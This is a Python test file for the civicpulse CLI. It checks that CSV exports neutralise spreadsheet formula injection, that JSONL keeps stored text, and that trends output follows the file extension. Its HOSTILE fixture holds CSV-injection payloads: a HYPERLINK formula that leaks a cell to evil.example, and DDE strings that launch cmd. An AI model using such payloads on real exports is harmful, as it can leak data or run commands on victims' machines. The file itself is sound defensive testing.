"""``civicpulse contacts export --format csv`` on a real database: no cell runs as a formula."""

from __future__ import annotations

import csv
import json
from datetime import UTC, datetime
from pathlib import Path

import pytest
from sqlalchemy import Engine
from typer.testing import CliRunner

from civicpulse.cli import app
from tests.fixtures.contacts import ContactSpec, store_contacts

runner = CliRunner()
HOSTILE = {
    "formula": '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
    "dde": "=cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
}


@pytest.fixture()
def stored(engine: Engine, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Engine:
    monkeypatch.setenv("CIVICPULSE_HOME", str(tmp_path / "home"))
    monkeypatch.setenv("CIVICPULSE_DATABASE_URL", engine.url.render_as_string(hide_password=False))
    store_contacts(
        engine,
        *(
            ContactSpec(
                ref,
                when=datetime(2025, 10, 6, 9, tzinfo=UTC),
                source_system="csv",
                source_ref=f"-{ref}",
                text=text,
                subject=text,
                ward=text.strip()[:40],
                partner=None,
                model_version=None,
            )
            for ref, text in HOSTILE.items()
        ),
    )
    return engine


def test_export_csv_neutralises_formula_cells(stored: Engine, tmp_path: Path) -> None:
    out = tmp_path / "export.csv"
    done = runner.invoke(app, ["contacts", "export", "--format", "csv", "--output", str(out)])
    assert done.exit_code == 0, done.output
    rows = list(csv.DictReader(out.open(encoding="utf-8", newline="")))
    by_ref = {row["source_ref"]: row for row in rows}
    assert set(by_ref) == {f"'-{ref}" for ref in HOSTILE}
    for ref, text in HOSTILE.items():
        row = by_ref[f"'-{ref}"]
        assert (row["text"], row["subject"]) == (f"'{text}", f"'{text}")
        assert row["ward"] == f"'{text.strip()[:40]}"
        assert float(row["confidence"]) == 0.9  # figures stay figures


def test_export_jsonl_keeps_the_text_as_stored(stored: Engine, tmp_path: Path) -> None:
    out = tmp_path / "export.jsonl"
    done = runner.invoke(app, ["contacts", "export", "--format", "jsonl", "--output", str(out)])
    assert done.exit_code == 0, done.output
    texts = {json.loads(line)["text"] for line in out.read_text(encoding="utf-8").splitlines()}
    assert texts == set(HOSTILE.values())  # JSON is not a spreadsheet: nothing to neutralise


def test_trends_output_png_is_a_chart(stored: Engine, tmp_path: Path) -> None:
    out = tmp_path / "trends.png"
    args = ["trends", "--period", "month", "--by", "service", "--output", str(out)]
    done = runner.invoke(app, args)
    assert done.exit_code == 0, done.output
    assert out.read_bytes().startswith(b"\x89PNG\r\n\x1a\n")


def test_trends_output_follows_the_extension(stored: Engine, tmp_path: Path) -> None:
    as_csv, as_json = tmp_path / "t.csv", tmp_path / "t.json"
    for out in (as_csv, as_json):
        done = runner.invoke(app, ["trends", "--by", "service", "--output", str(out)])
        assert done.exit_code == 0, done.output
    [row] = list(csv.DictReader(as_csv.open(encoding="utf-8", newline="")))
    assert (row["service"], row["count"]) == ("waste_recycling", str(len(HOSTILE)))
    assert json.loads(as_json.read_text(encoding="utf-8"))[0]["count"] == len(HOSTILE)


def test_trends_output_refuses_an_extension_it_cannot_write(stored: Engine, tmp_path: Path) -> None:
    out = tmp_path / "trends.pdf"
    done = runner.invoke(app, ["trends", "--output", str(out)])
    assert done.exit_code != 0
    assert "cannot write trends as .pdf" in done.output
    assert not out.exists()
